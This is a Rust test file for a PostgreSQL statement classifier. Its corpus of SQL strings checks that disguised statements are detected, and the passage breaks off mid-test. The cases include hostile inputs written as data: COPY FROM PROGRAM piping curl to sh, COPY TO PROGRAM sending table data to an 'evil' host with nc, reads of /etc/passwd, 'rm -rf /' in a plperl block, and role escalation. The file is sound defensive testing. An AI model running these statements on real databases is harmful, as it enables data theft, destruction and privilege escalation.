//! The classification corpus: each case is a query string and what the
//! policy must see in it, disguises included.

use super::*;

/// One corpus case. `kinds` is the exact set of kinds; `tables`, when
/// given, the exact set of relations (`schema.name`); `functions` must all be
/// present. `ww` is `without_where`, `unknown` whether the facts say the
/// effect cannot be known.
struct Case {
    sql: &'static str,
    kinds: &'static str,
    tables: Option<&'static str>,
    functions: &'static str,
    ww: bool,
    unknown: bool,
}

const C: Case = Case {
    sql: "",
    kinds: "",
    tables: None,
    functions: "",
    ww: false,
    unknown: false,
};

fn kinds(names: &str) -> KindSet {
    names
        .split_whitespace()
        .map(|n| StatementKind::from_name(n).unwrap_or_else(|| panic!("no kind {n}")))
        .collect()
}

#[rustfmt::skip]
const CORPUS: &[Case] = &[
    // Plain statements and identifier resolution.
    Case { sql: "SELECT 1", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "select * from users where id = 1", kinds: "SELECT", tables: Some("users"), ..C },
    Case { sql: "sElEcT * FrOm UsErS", kinds: "SELECT", tables: Some("users"), ..C },
    Case { sql: "SELECT * FROM public.users", kinds: "SELECT", tables: Some("public.users"), ..C },
    Case { sql: "SELECT * FROM mydb.public.users", kinds: "SELECT", tables: Some("public.users"), ..C },
    Case { sql: r#"SELECT * FROM "Users""#, kinds: "SELECT", tables: Some("Users"), ..C },
    Case { sql: r#"SELECT * FROM "public"."Users""#, kinds: "SELECT", tables: Some("public.Users"), ..C },
    Case { sql: r#"SELECT * FROM "a;DROP TABLE t""#, kinds: "SELECT", tables: Some("a;DROP TABLE t"), ..C },
    Case { sql: r#"SELECT * FROM U&"d\0061ta""#, kinds: "SELECT", tables: Some("data"), ..C },
    Case { sql: r#"SELECT * FROM U&"d!0061ta" UESCAPE '!'"#, kinds: "SELECT", tables: Some("data"), ..C },
    Case { sql: r#"DELETE FROM U&"\0055sers" WHERE id = 1"#, kinds: "DELETE", tables: Some("Users"), ..C },
    Case { sql: "TABLE t", kinds: "SELECT", tables: Some("t"), ..C },
    Case { sql: "VALUES (1), (2)", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT * FROM t FOR UPDATE", kinds: "SELECT", tables: Some("t"), ..C },
    Case { sql: "SELECT * FROM t JOIN s.u ON true", kinds: "SELECT", tables: Some("t s.u"), ..C },
    Case { sql: "SELECT * FROM t WHERE id IN (SELECT id FROM u)", kinds: "SELECT", tables: Some("t u"), ..C },
    Case { sql: "SELECT * FROM t WHERE a = $1 AND b = $2", kinds: "SELECT", tables: Some("t"), ..C },
    Case { sql: "WITH users AS (SELECT 1) SELECT * FROM users", kinds: "SELECT", tables: Some("users"), ..C },
    // Writes, WHERE or not.
    Case { sql: "INSERT INTO t VALUES (1)", kinds: "INSERT", tables: Some("t"), ..C },
    Case { sql: "INSERT INTO t DEFAULT VALUES", kinds: "INSERT", tables: Some("t"), ..C },
    Case { sql: "INSERT INTO t SELECT * FROM s", kinds: "INSERT SELECT", tables: Some("t s"), ..C },
    Case { sql: "INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET a = 2", kinds: "INSERT UPDATE", tables: Some("t"), ..C },
    Case { sql: "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", kinds: "INSERT", tables: Some("t"), ..C },
    Case { sql: "INSERT INTO t VALUES ((SELECT max(a) FROM u))", kinds: "INSERT SELECT", tables: Some("t u"), functions: "max", ..C },
    Case { sql: "UPDATE t SET a = 1", kinds: "UPDATE", tables: Some("t"), ww: true, ..C },
    Case { sql: "UPDATE t SET a = 1 WHERE id = 2", kinds: "UPDATE", tables: Some("t"), ..C },
    Case { sql: "UPDATE t SET a = 1 WHERE true", kinds: "UPDATE", tables: Some("t"), ..C },
    Case { sql: "UPDATE t SET a = (SELECT b FROM u) WHERE id = 1", kinds: "UPDATE SELECT", tables: Some("t u"), ..C },
    Case { sql: "UPDATE t SET a = u.b FROM u WHERE t.id = u.id", kinds: "UPDATE", tables: Some("t u"), ..C },
    Case { sql: "DELETE FROM t", kinds: "DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "delete from USERS where id=1", kinds: "DELETE", tables: Some("users"), ..C },
    Case { sql: r#"DELETE FROM "Users""#, kinds: "DELETE", tables: Some("Users"), ww: true, ..C },
    Case { sql: "DeLeTe FrOm t", kinds: "DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "DELETE FROM t WHERE CURRENT OF c", kinds: "DELETE", tables: Some("t"), ..C },
    Case { sql: "UPDATE t SET a = 1 WHERE CURRENT OF c", kinds: "UPDATE", tables: Some("t"), ..C },
    Case { sql: "DELETE FROM t USING u WHERE t.id = u.id", kinds: "DELETE", tables: Some("t u"), ..C },
    Case { sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (s.id)", kinds: "MERGE DELETE INSERT", tables: Some("t s"), ..C },
    Case { sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a", kinds: "MERGE UPDATE", tables: Some("t s"), ..C },
    Case { sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DO NOTHING", kinds: "MERGE", tables: Some("t s"), ..C },
    // Several statements, nested statements.
    Case { sql: "SELECT 1; DROP TABLE t", kinds: "SELECT DROP", tables: Some("t"), ..C },
    Case { sql: "SELECT 1; SELECT 2;", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "BEGIN; DELETE FROM t; COMMIT", kinds: "TRANSACTION DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", kinds: "SELECT DELETE", tables: Some("t x"), ww: true, ..C },
    Case { sql: "WITH x AS (UPDATE t SET a = 1 WHERE b RETURNING *) INSERT INTO u SELECT * FROM x", kinds: "SELECT UPDATE INSERT", tables: Some("t u x"), ..C },
    Case { sql: "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r", kinds: "SELECT", tables: Some("r"), ..C },
    Case { sql: "SELECT * FROM a UNION SELECT * FROM b EXCEPT SELECT * FROM c", kinds: "SELECT", tables: Some("a b c"), ..C },
    Case { sql: "EXPLAIN SELECT 1", kinds: "EXPLAIN SELECT", ..C },
    Case { sql: "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", kinds: "EXPLAIN DELETE", tables: Some("t"), ..C },
    Case { sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", kinds: "EXPLAIN UPDATE", tables: Some("t"), ww: true, ..C },
    Case { sql: "EXPLAIN DELETE FROM t", kinds: "EXPLAIN DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "CREATE TABLE t2 AS SELECT * FROM t", kinds: "CREATE SELECT", tables: Some("t2 t"), ..C },
    Case { sql: "SELECT * INTO t2 FROM t", kinds: "SELECT CREATE", tables: Some("t2 t"), ..C },
    Case { sql: "CREATE VIEW v AS SELECT * FROM secret", kinds: "CREATE SELECT", tables: Some("v secret"), ..C },
    Case { sql: "CREATE MATERIALIZED VIEW mv AS SELECT 1", kinds: "CREATE SELECT", tables: Some("mv"), ..C },
    Case { sql: "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", kinds: "CREATE DELETE", tables: Some("t u"), ww: true, ..C },
    Case { sql: "CREATE SCHEMA s CREATE TABLE t (a int) CREATE VIEW v AS SELECT * FROM t", kinds: "CREATE SELECT", tables: Some("t v"), ..C },
    Case { sql: "DECLARE c CURSOR FOR SELECT * FROM t", kinds: "FETCH SELECT", tables: Some("t"), ..C },
    // Comments, strings and quoting that hide statements from naive scanners.
    Case { sql: "/* DROP TABLE t */ SELECT 1", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT 1 -- ; DROP TABLE t", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "/* outer /* DROP TABLE t; */ still a comment */ SELECT 1", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT 1 /* ; */; /* x */ DROP TABLE t", kinds: "SELECT DROP", tables: Some("t"), ..C },
    Case { sql: "SELECT/**/1;DROP/**/TABLE/**/t", kinds: "SELECT DROP", tables: Some("t"), ..C },
    Case { sql: "SELECT 'a; DROP TABLE t'", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: r"SELECT E'it\'s; DROP TABLE t'", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT 'it''s; DROP TABLE t'", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT $$; DROP TABLE t; $$", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT $a$ $$; DROP TABLE t; $$ $a$", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: r"SELECT U&'\0044ROP TABLE t'", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "SELECT \"; DROP TABLE t; --\" FROM u", kinds: "SELECT", tables: Some("u"), ..C },
    Case { sql: "SELECT 1\n;\nDROP\nTABLE\nt\n", kinds: "SELECT DROP", tables: Some("t"), ..C },
    // COPY.
    Case { sql: "COPY t TO STDOUT", kinds: "COPY", tables: Some("t"), ..C },
    Case { sql: "copy t from '/etc/passwd'", kinds: "COPY", tables: Some("t"), ..C },
    Case { sql: "COPY t FROM PROGRAM 'curl http://x | sh'", kinds: "COPY COPY_PROGRAM", tables: Some("t"), ..C },
    Case { sql: "COPY (SELECT * FROM t) TO PROGRAM 'nc evil 1'", kinds: "COPY COPY_PROGRAM SELECT", tables: Some("t"), ..C },
    Case { sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT", kinds: "COPY DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "COPY t (a, b) FROM STDIN WITH (FORMAT csv)", kinds: "COPY", tables: Some("t"), ..C },
    // Roles and settings.
    Case { sql: "SET ROLE admin", kinds: "SET_ROLE", ..C },
    Case { sql: "set local role admin", kinds: "SET_ROLE", ..C },
    Case { sql: "SET role TO 'admin'", kinds: "SET_ROLE", ..C },
    Case { sql: "SET SESSION AUTHORIZATION 'postgres'", kinds: "SET_ROLE", ..C },
    Case { sql: "SET SESSION AUTHORIZATION DEFAULT", kinds: "SET_ROLE", ..C },
    Case { sql: "RESET ROLE", kinds: "SET_ROLE", ..C },
    Case { sql: "RESET SESSION AUTHORIZATION", kinds: "SET_ROLE", ..C },
    Case { sql: "SET search_path = evil, public", kinds: "SET", ..C },
    Case { sql: "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", kinds: "SET", ..C },
    Case { sql: "SET CONSTRAINTS ALL DEFERRED", kinds: "SET", ..C },
    Case { sql: "SET standard_conforming_strings = off", kinds: "SET", unknown: true, ..C },
    Case { sql: "SET standard_conforming_strings TO on", kinds: "SET", ..C },
    Case { sql: "ALTER ROLE bob SET standard_conforming_strings = 'off'", kinds: "ALTER SET", unknown: true, ..C },
    Case { sql: "SELECT set_config('standard_conforming_strings', 'off', false)", kinds: "SELECT", functions: "set_config", unknown: true, ..C },
    // Why the SET above is unknown: with standard strings this is one
    // literal; with them off the server would end the literal at `\'` and
    // run the DROP.
    Case { sql: r"SELECT 'x'' ; DROP TABLE t; --'", kinds: "SELECT", tables: Some(""), ..C },
    Case { sql: "RESET work_mem", kinds: "RESET", ..C },
    Case { sql: "RESET ALL", kinds: "RESET", ..C },
    Case { sql: "SHOW work_mem", kinds: "SHOW", ..C },
    Case { sql: "SELECT set_config('role', 'admin', false)", kinds: "SELECT SET_ROLE", functions: "set_config", ..C },
    Case { sql: "SELECT pg_catalog.set_config('ROLE'::text, 'admin', false)", kinds: "SELECT SET_ROLE", functions: "set_config pg_catalog.set_config", ..C },
    Case { sql: "SELECT set_config('work_mem', '1MB', false)", kinds: "SELECT", functions: "set_config", ..C },
    Case { sql: "SELECT set_config(current_setting('x.y'), 'admin', false)", kinds: "SELECT", functions: "set_config current_setting", unknown: true, ..C },
    Case { sql: "ALTER ROLE bob SET role = 'admin'", kinds: "ALTER SET_ROLE", ..C },
    Case { sql: "ALTER SYSTEM SET shared_preload_libraries = 'x'", kinds: "ALTER SET", ..C },
    // Functions.
    Case { sql: "SELECT pg_read_file('/etc/passwd')", kinds: "SELECT", functions: "pg_read_file", ..C },
    Case { sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')", kinds: "SELECT", functions: "pg_read_file pg_catalog.pg_read_file", ..C },
    Case { sql: r#"SELECT "pg_catalog"."pg_read_file"('x')"#, kinds: "SELECT", functions: "pg_read_file pg_catalog.pg_read_file", ..C },
    Case { sql: "SELECT PG_READ_FILE('x')", kinds: "SELECT", functions: "pg_read_file", ..C },
    Case { sql: "SELECT * FROM pg_read_file('/etc/passwd')", kinds: "SELECT", tables: Some(""), functions: "pg_read_file", ..C },
    Case { sql: "SELECT lo_import('/etc/passwd')", kinds: "SELECT", functions: "lo_import", ..C },
    Case { sql: "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)", kinds: "SELECT", functions: "dblink", ..C },
    Case { sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", kinds: "SELECT", tables: Some("pg_stat_activity"), functions: "pg_terminate_backend", ..C },
    Case { sql: "SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t", kinds: "SELECT", functions: "count pg_sleep", ..C },
    Case { sql: "SELECT xmlparse(document pg_read_file('x'))", kinds: "SELECT", functions: "pg_read_file", ..C },
    Case { sql: "SELECT pg_notify('ch', 'x')", kinds: "SELECT", functions: "pg_notify", ..C },
    Case { sql: "SELECT 1 ORDER BY pg_read_file('x')", kinds: "SELECT", functions: "pg_read_file", ..C },
    Case { sql: "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')", kinds: "SELECT DELETE", tables: Some("t"), functions: "query_to_xml", ww: true, ..C },
    Case { sql: "SELECT * FROM ts_stat('SELECT body FROM secret')", kinds: "SELECT", tables: Some("secret"), functions: "ts_stat", ..C },
    Case { sql: "SELECT query_to_xml($1, true, false, '')", kinds: "SELECT", functions: "query_to_xml", unknown: true, ..C },
    Case { sql: r#"SELECT table_to_xml('public."Secret"', true, false, '')"#, kinds: "SELECT", tables: Some("public.Secret"), functions: "table_to_xml", ..C },
    Case { sql: "SELECT schema_to_xml('public', true, false, '')", kinds: "SELECT", functions: "schema_to_xml", unknown: true, ..C },
    Case { sql: "INSERT INTO t VALUES (1) RETURNING pg_read_file('x')", kinds: "INSERT", tables: Some("t"), functions: "pg_read_file", ..C },
    Case { sql: "WITH d AS (DELETE FROM t WHERE a) SELECT 1", kinds: "SELECT DELETE", tables: Some("t"), ..C },
    Case { sql: "CALL p(1)", kinds: "CALL", functions: "p", ..C },
    Case { sql: "CALL s.p(pg_read_file('x'))", kinds: "CALL", functions: "p s.p pg_read_file", ..C },
    Case { sql: "CREATE TABLE t (id int DEFAULT nextval('s'), b text DEFAULT pg_read_file('x'))", kinds: "CREATE", tables: Some("t"), functions: "nextval pg_read_file", ..C },
    Case { sql: "ALTER TABLE t ALTER COLUMN c SET DEFAULT pg_read_file('x')", kinds: "ALTER", tables: Some("t"), functions: "pg_read_file", ..C },
    Case { sql: "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", kinds: "CREATE", tables: Some("t"), functions: "f", ..C },
    // Function bodies.
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'", kinds: "CREATE DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t WHERE a; SELECT 1; END", kinds: "CREATE DELETE SELECT", tables: Some("t"), ..C },
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN pg_read_file('x')::int", kinds: "CREATE", functions: "pg_read_file", ..C },
    Case { sql: "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$", kinds: "CREATE DROP", tables: Some("t"), ..C },
    Case { sql: "CREATE OR REPLACE FUNCTION f(n int) RETURNS int AS $f$ BEGIN UPDATE t SET a = n; RETURN n; END $f$ LANGUAGE plpgsql", kinds: "CREATE UPDATE", tables: Some("t"), ww: true, ..C },
    Case { sql: "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t WHERE a; COMMIT; END $$", kinds: "CREATE DELETE TRANSACTION", tables: Some("t"), ..C },
    Case { sql: "CREATE FUNCTION f() RETURNS SETOF t LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE format('SELECT * FROM %I', 't'); END $$", kinds: "CREATE SELECT", functions: "format", unknown: true, ..C },
    Case { sql: "CREATE FUNCTION trg() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO audit VALUES (NEW.id); RETURN NEW; END $$", kinds: "CREATE INSERT SELECT", tables: Some("audit"), ..C },
    Case { sql: "CREATE FUNCTION f(a int, OUT b int) LANGUAGE plpgsql AS $$ BEGIN b := a; END $$; SELECT f(1)", kinds: "CREATE SELECT", functions: "f", ..C },
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'", kinds: "CREATE", unknown: true, ..C },
    Case { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", kinds: "CREATE", unknown: true, ..C },
    // DO blocks.
    Case { sql: "DO $$ BEGIN DROP TABLE t; END $$", kinds: "DO DROP", tables: Some("t"), ..C },
    Case { sql: "do $body$ begin delete from t; end $body$", kinds: "DO DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "DO 'BEGIN DELETE FROM t WHERE a; END'", kinds: "DO DELETE", tables: Some("t"), ..C },
    Case { sql: "DO E'BEGIN DROP TABLE \\\"T\\\"; END'", kinds: "DO DROP", tables: Some("T"), ..C },
    Case { sql: "DO $$ BEGIN INSERT INTO log VALUES (1); END $$ LANGUAGE plpgsql", kinds: "DO INSERT", tables: Some("log"), ..C },
    Case { sql: "DO $$ BEGIN PERFORM 1; END $$", kinds: "DO SELECT", tables: Some(""), ..C },
    Case { sql: "DO $$ BEGIN IF pg_read_file('x') IS NOT NULL THEN NULL; END IF; END $$", kinds: "DO SELECT", functions: "pg_read_file", ..C },
    Case { sql: "DO $$ DECLARE x int; BEGIN x := (SELECT count(*) FROM secret); END $$", kinds: "DO SELECT", tables: Some("secret"), ..C },
    Case { sql: "DO $$ DECLARE x text := pg_read_file('x'); BEGIN NULL; END $$", kinds: "DO SELECT", functions: "pg_read_file", ..C },
    Case { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", kinds: "DO SELECT DROP", tables: Some("t"), ..C },
    Case { sql: "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT * FROM t' LOOP END LOOP; END $$", kinds: "DO SELECT", tables: Some("t"), ..C },
    Case { sql: "DO $$ DECLARE n text := 't'; BEGIN EXECUTE 'DROP TABLE ' || n; END $$", kinds: "DO SELECT", unknown: true, ..C },
    Case { sql: "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$", kinds: "DO SELECT", functions: "format", unknown: true, ..C },
    Case { sql: "DO $$ BEGIN EXECUTE 'DO $x$ BEGIN DROP TABLE t; END $x$'; END $$", kinds: "DO SELECT DROP", tables: Some("t"), ..C },
    Case { sql: "DO $$ BEGIN COMMIT; END $$", kinds: "DO TRANSACTION", ..C },
    Case { sql: "DO $$ BEGIN CALL p(); END $$", kinds: "DO CALL", functions: "p", ..C },
    Case { sql: "DO $$ BEGIN PERFORM set_config('role', 'admin', false); END $$", kinds: "DO SELECT SET_ROLE", functions: "set_config", ..C },
    Case { sql: "DO $$ BEGIN SET ROLE admin; END $$", kinds: "DO SET_ROLE", ..C },
    Case { sql: "DO $$ BEGIN COPY t TO PROGRAM 'id'; END $$", kinds: "DO COPY COPY_PROGRAM", tables: Some("t"), ..C },
    Case { sql: "DO $$ BEGIN RAISE NOTICE '%', (SELECT secret FROM vault); END $$", kinds: "DO SELECT", tables: Some("vault"), ..C },
    Case { sql: "DO $$ BEGIN BEGIN DELETE FROM t; EXCEPTION WHEN others THEN NULL; END; END $$", kinds: "DO DELETE", tables: Some("t"), ww: true, ..C },
    Case { sql: "DO $$ BEGIN EXECUTE 'CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $f$ BEGIN TRUNCATE t; END $f$'; END $$", kinds: "DO SELECT CREATE TRUNCATE", tables: Some("t"), ..C },
    Case { sql: "DO $$ DECLARE v users.id%TYPE; r users%ROWTYPE; BEGIN SELECT * INTO r FROM users WHERE id = 1; DELETE FROM users WHERE id = r.id; END $$", kinds: "DO SELECT DELETE", tables: Some("users"), ..C },
    Case { sql: "CREATE FUNCTION f(u users) RETURNS SETOF users LANGUAGE plpgsql AS $$ DECLARE c CURSOR FOR SELECT * FROM archive; BEGIN RETURN QUERY SELECT * FROM users WHERE id = u.id; END $$", kinds: "CREATE SELECT", tables: Some("users archive"), ..C },
    Case { sql: "DO LANGUAGE plperl $$ system('rm -rf /') $$", kinds: "DO", unknown: true, ..C },
    // Prepared statements (without a session, EXECUTE is unknown).
    Case { sql: "PREPARE p AS DELETE FROM t WHERE id = $1", kinds: "PREPARE DELETE", tables: Some("t"), ..C },
    Case { sql: "PREPARE p(int) AS SELECT * FROM t WHERE id = $1; EXECUTE p(1)", kinds: "PREPARE SELECT EXECUTE", tables: Some("t"), unknown: true, ..C },
    Case { sql: "EXECUTE p(pg_read_file('x'))", kinds: "EXECUTE", functions: "pg_read_file", unknown: true, ..C },
    Case { sql: "EXPLAIN EXECUTE p", kinds: "EXPLAIN EXECUTE", unknown: true, ..C },
    Case { sql: "CREATE TABLE t AS EXECUTE p", kinds: "CREATE EXECUTE", tables: Some("t"), unknown: true, ..C },
    Case { sql: "DEALLOCATE p", kinds: "DEALLOCATE", ..C },
    Case { sql: "DEALLOCATE ALL", kinds: "DEALLOCATE", ..C },
    // DDL and the rest.
    Case { sql: "DROP TABLE a, s.b", kinds: "DROP", tables: Some("a s.b"), ..C },
    Case { sql: "DROP TABLE IF EXISTS \"A\" CASCADE", kinds: "DROP", tables: Some("A"), ..C },
    Case { sql: "DROP VIEW v", kinds: "DROP", tables: Some("v"), ..C },
    Case { sql: "DROP TRIGGER tr ON s.t", kinds: "DROP", tables: Some("s.t"), ..C },
    Case { sql: "DROP FUNCTION f(int)", kinds: "DROP", tables: Some(""), ..C },
    Case { sql: "DROP DATABASE prod", kinds: "DROP", ..C },
    Case { sql: "TRUNCATE t, u", kinds: "TRUNCATE", tables: Some("t u"), ..C },
    Case { sql: "TRUNCATE TABLE ONLY s.t RESTART IDENTITY", kinds: "TRUNCATE", tables: Some("s.t"), ..C },
    Case { sql: "ALTER TABLE t ADD COLUMN c int", kinds: "ALTER", tables: Some("t"), ..C },
    Case { sql: "ALTER TABLE t RENAME TO u", kinds: "ALTER", tables: Some("t"), ..C },
    Case { sql: "CREATE INDEX i ON t (a)", kinds: "CREATE", tables: Some("t"), ..C },
    Case { sql: "CREATE TABLE t (LIKE u)", kinds: "CREATE", tables: Some("t u"), ..C },
    Case { sql: "CREATE EXTENSION dblink", kinds: "CREATE", ..C },
    Case { sql: "CREATE ROLE x SUPERUSER", kinds: "CREATE", ..C },
    Case { sql: "ALTER ROLE bob SUPERUSER", kinds: "ALTER", ..C },
    Case { sql: "DROP ROLE bob", kinds: "DROP", ..C },
    Case { sql: "GRANT SELECT ON t TO bob", kinds: "GRANT", tables: Some("t"), ..C },
    Case { sql: "REVOKE ALL ON TABLE s.t FROM bob", kinds: "REVOKE", tables: Some("s.t"), ..C },
    Case { sql: "GRANT admin TO bob", kinds: "GRANT", ..C },
    Case { sql: "REVOKE admin FROM bob", kinds: "REVOKE", ..C },
    Case { sql: "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob", kinds: "ALTER GRANT", ..C },
    Case { sql: "IMPORT FOREIGN SCHEMA s FROM SERVER x INTO public", kinds: "CREATE", ..C },
    Case { sql: "VACUUM t", kinds: "VACUUM", tables: Some("t"), ..C },
    Case { sql: "VACUUM (FULL, ANALYZE) t", kinds: "VACUUM", tables: Some("t"), ..C },
    Case { sql: "ANALYZE t", kinds: "ANALYZE", tables: Some("t"), ..C },
    Case { sql: "LISTEN ch", kinds: "LISTEN", ..C },
    Case { sql: "NOTIFY ch, 'x'", kinds: "NOTIFY", ..C },
    Case { sql: "UNLISTEN *", kinds: "UNLISTEN", ..C },
    Case { sql: "BEGIN", kinds: "TRANSACTION", ..C },
    Case { sql: "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", kinds: "TRANSACTION", ..C },
    Case { sql: "SAVEPOINT s; ROLLBACK TO SAVEPOINT s; RELEASE s", kinds: "TRANSACTION", ..C },
    Case { sql: "PREPARE TRANSACTION 'x'", kinds: "TRANSACTION", ..C },
    Case { sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", kinds: "LOCK", tables: Some("t"), ..C },
    Case { sql: "COMMENT ON TABLE t IS 'x'", kinds: "COMMENT", ..C },
    Case { sql: "REFRESH MATERIALIZED VIEW mv", kinds: "REFRESH", tables: Some("mv"), ..C },
    Case { sql: "REINDEX TABLE t", kinds: "REINDEX", tables: Some("t"), ..C },
    Case { sql: "CLUSTER t USING i", kinds: "CLUSTER", tables: Some("t"), ..C },
    Case { sql: "DISCARD ALL", kinds: "DISCARD", ..C },
    Case { sql: "FETCH 10 FROM c", kinds: "FETCH", ..C },
    Case { sql: "MOVE NEXT IN c", kinds: "FETCH", ..C },
    Case { sql: "CLOSE c", kinds: "FETCH", ..C },
    Case { sql: "CHECKPOINT", kinds: "CHECKPOINT", ..C },
    Case { sql: "LOAD 'auto_explain'", kinds: "LOAD", ..C },
    Case { sql: "SECURITY LABEL ON TABLE t IS 'x'", kinds: "OTHER", ..C },
];

#[test]
fn corpus() {
    let mut failures = Vec::new();
    for case in CORPUS {
        let facts = match classify(case.sql) {
            Ok(f) => f,
            Err(e) => {
                failures.push(format!("{:?}: error {e}", case.sql));
                continue;
            }
        };
        let mut wrong = Vec::new();
        if facts.kinds != kinds(case.kinds) {
            wrong.push(format!("kinds {:?}, want {}", facts.kinds, case.kinds));
        }
        if let Some(tables) = case.tables {
            let mut got: Vec<String> = facts.tables.iter().map(ToString::to_string).collect();
            let mut want: Vec<String> = tables.split_whitespace().map(str::to_owned).collect();
            // A quoted name with a space is written whole in the table above.
            if tables.contains(';') {
                want = vec![tables.to_owned()];
            }
            got.sort();
            want.sort();
            if got != want {
                wrong.push(format!("tables {got:?}, want {want:?}"));
            }
        }
        for f in case.functions.split_whitespace() {
            if !facts.calls(f) {
                wrong.push(format!("function {f} missing from {:?}", facts.functions));
            }
        }
        if facts.without_where != case.ww {
            wrong.push(format!("without_where {}", facts.without_where));
        }
        if facts.unknown.is_some() != case.unknown {
            wrong.push(format!("unknown {:?}", facts.unknown));
        }
        if !wrong.is_empty() {
            failures.push(format!("{:?}: {}", case.sql, wrong.join("; ")));
        }
    }
    assert!(CORPUS.len() >= 100);
    assert!(
        failures.is_empty(),
        "{} of {} cases wrong:\n{}",
        failures.len(),
        CORPUS.len(),
        failures.join("\n")
    );
}

/// Text PostgreSQL would refuse is refused, never passed with no facts.
#[test]
fn what_does_not_parse_is_an_error() {
    for sql in [
        "SELEC 1",
        "DROP TABLE",
        "SELECT 1; DELET FROM t",
        "SELECT 'unterminated",
        "/* /* unterminated nested comment */ SELECT 1",
        "SELECT * FROM (DELETE FROM t RETURNING *) x",
        "PREPARE p AS DROP TABLE t",
        "SELECT 1\0; DROP TABLE t",
        "DO $$ BEGIN DROP TABLE; END $$",
        "DO $$ BEGIN garbage here; END $$",
        "DO $$ BEGIN EXECUTE 'DROP TABLE'; END $$",
        "DO $$ BEGIN IF THEN END IF; END $$",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELET FROM t'",
        "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELET FROM t; END $$",
    ] {
        match classify(sql) {
            Err(SqlError::Parse(_)) => {}
            other => panic!("{sql:?}: {other:?}"),
        }
    }
}

#[test]
fn empty_and_comment_only_text_has_no_statements() {
    for sql in ["", "  ", ";", "-- nothing", "/* nothing */ ;"] {
        let facts = classify(sql).unwrap();
        assert_eq!(facts.statements, 0, "{sql:?}");
        assert!(facts.kinds.is_empty(), "{sql:?}");
    }
    assert_eq!(
        classify("SELECT 1; SELECT 2; ;SELECT 3")
            .unwrap()
            .statements,
        3
    );
}

#[test]
fn overlong_text_is_refused_unparsed() {
    let mut sql = String::from("SELECT 1");
    sql.push_str(&" ".repeat(SQL_BYTES_MAX));
    assert_eq!(
        classify(&sql),
        Err(SqlError::TooLong {
            bytes: sql.len(),
            max: SQL_BYTES_MAX
        })
    );
    let mut cache = SqlCache::new(8);
    assert!(matches!(
        cache.classify(&sql),
        Err(SqlError::TooLong { .. })
    ));
}

#[test]
fn nesting_in_strings_is_bounded() {
    // DO blocks nested through constant EXECUTE strings, deeper than the
    // limit: the innermost cannot be followed and is unknown.
    let mut sql = String::from("DROP TABLE t");
    for level in 0..(SQL_NESTING_MAX + 2) {
        let tag = format!("$l{level}$");
        sql = format!("DO {tag} BEGIN EXECUTE {}; END {tag}", quote_literal(&sql));
    }
    let facts = classify(&sql).unwrap();
    assert!(facts.unknown.is_some(), "{facts:?}");
    assert!(!facts.kinds.contains(StatementKind::Drop));

    // Within the limit the innermost statement is found.
    let mut sql = String::from("DROP TABLE t");
    for level in 0..2 {
        let tag = format!("$l{level}$");
        sql = format!("DO {tag} BEGIN EXECUTE {}; END {tag}", quote_literal(&sql));
    }
    let facts = classify(&sql).unwrap();
    assert!(facts.kinds.contains(StatementKind::Drop), "{facts:?}");
